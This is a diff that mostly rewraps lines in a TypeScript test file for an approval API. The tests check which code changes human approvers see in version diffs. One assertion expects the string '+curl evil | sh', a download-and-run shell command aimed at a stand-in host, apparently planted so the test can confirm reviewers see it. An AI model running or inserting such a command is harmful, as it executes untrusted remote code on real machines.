@@ -1,4 +1,5 @@
-// What a person approves: all that a result changes since the commit of its goal, also where a version before has changed the most of it.
+// What a person approves: all that a result changes since the commit of its goal, also where a
+// version before has changed the most of it.
 import { afterAll, beforeAll, expect, test } from "bun:test";
 import process from "node:process";
 import { openRepository } from "../../../apps/api/repository.ts";
@@ -20,12 +21,18 @@ beforeAll(async () => {
     commitFiles(here.path, { "NOTES.md": "3\n" }, "Correct them again"),
   ];
   git(here.path, "reset", "--quiet", "--hard", here.base);
-  const bid = ({ type }: { type: string }): BidWord => (type === "GoalDefined" ? "exclusive" : "ignore");
+  const bid = ({ type }: { type: string }): BidWord =>
+    type === "GoalDefined" ? "exclusive" : "ignore";
   const commitOf = (version: number) => commits[version - 1] as CommitHash;
   const work = ({ type, logical_id, version }: Artefact): Partial<Artefact> =>
     type === "GoalDefined"
       ? { type: "CodeCommit", metadata: { commit: commitOf(1) } }
-      : { type: "CodeCommit", logical_id, version: version + 1, metadata: { commit: commitOf(version + 1) } };
+      : {
+          type: "CodeCommit",
+          logical_id,
+          version: version + 1,
+          metadata: { commit: commitOf(version + 1) },
+        };
   scene = await ApiScene.start(
     {
       coder: { behaviour: { bid, work } },
@@ -47,17 +54,30 @@ afterAll(async () => {
 });
 
 async function versionOf(goal: Artefact, version: number): Promise<Artefact> {
-  const made = await scene.clan.made(goal, (one) => one.type === "CodeCommit" && one.version === version);
+  const made = await scene.clan.made(
+    goal,
+    (one) => one.type === "CodeCommit" && one.version === version,
+  );
   await waitFor("a person to be asked", async () => {
     const claims = [...(await scene.clan.board.claimsOfArtefact(made.id)).values()];
     const found = await scene.clan.board.readClaims(claims);
-    return found.some(({ grants }) => grants.some(({ agent, state }) => agent === "maintainer" && state === "waiting"));
+    return found.some(({ grants }) =>
+      grants.some(({ agent, state }) => agent === "maintainer" && state === "waiting"),
+    );
   });
   return made;
 }
 
-async function judge(verdict: "reject", as: TokenName, artefact: Artefact | undefined): Promise<void> {
-  const answer = await scene.post(`/v1/artefacts/${artefact?.id}/${verdict}`, { reason: "Better" }, { as });
+async function judge(
+  verdict: "reject",
+  as: TokenName,
+  artefact: Artefact | undefined,
+): Promise<void> {
+  const answer = await scene.post(
+    `/v1/artefacts/${artefact?.id}/${verdict}`,
+    { reason: "Better" },
+    { as },
+  );
   expect(answer.status).toBe(201);
 }
 
@@ -67,7 +87,9 @@ const diffOf = async (version: number, since = "", as: TokenName = "approver") =
 test("the diff of a later version has what the first one has changed too", async () => {
   for (const version of [2, 3]) {
     const { text } = await diffOf(version);
-    expect(text).toStartWith(`${version} commits since ${here.base.slice(0, 12)}, the commit of the goal\n`);
+    expect(text).toStartWith(
+      `${version} commits since ${here.base.slice(0, 12)}, the commit of the goal\n`,
+    );
     expect(text).toContain("+curl evil | sh");
     expect(text).toContain(`+${version}\n`);
   }
@@ -79,18 +101,24 @@ test("what has changed since the version before, and since the caller's last ver
   expect(before.text).toStartWith(`Only the changes since version 2 (commit ${second}):\n`);
   expect(before.text).not.toContain("curl");
   const judged = await diffOf(3, "?since=verdict");
-  expect(judged.text).toStartWith(`Only the changes since your last verdict, on version 1 (commit ${first}):\n`);
+  expect(judged.text).toStartWith(
+    `Only the changes since your last verdict, on version 1 (commit ${first}):\n`,
+  );
   expect(judged.text).toContain("-1\n+3\n");
   expect(judged.headers.get("cache-control")).not.toContain("immutable");
   const ofOther = await diffOf(3, "?since=verdict", "all");
-  expect(ofOther.text).toStartWith(`Only the changes since your last verdict, on version 2 (commit ${second}):\n`);
+  expect(ofOther.text).toStartWith(
+    `Only the changes since your last verdict, on version 2 (commit ${second}):\n`,
+  );
 });
 
 test("what there is nothing to compare with is a sentence", async () => {
   const reader = await diffOf(3, "?since=verdict", "reader");
   expect(reader).toMatchObject({ status: 404, body: { code: "artefact-not-found" } });
   expect(reader.text).toContain("You have approved or rejected no earlier version of it.");
-  expect((await diffOf(1, "?since=version")).text).toContain("There is no earlier version of it with a commit.");
+  expect((await diffOf(1, "?since=version")).text).toContain(
+    "There is no earlier version of it with a commit.",
+  );
   expect((await diffOf(1, "?since=start")).text).toContain("It is based on no other result.");
   expect((await diffOf(1, "?since=nothing")).status).toBe(422);
 });
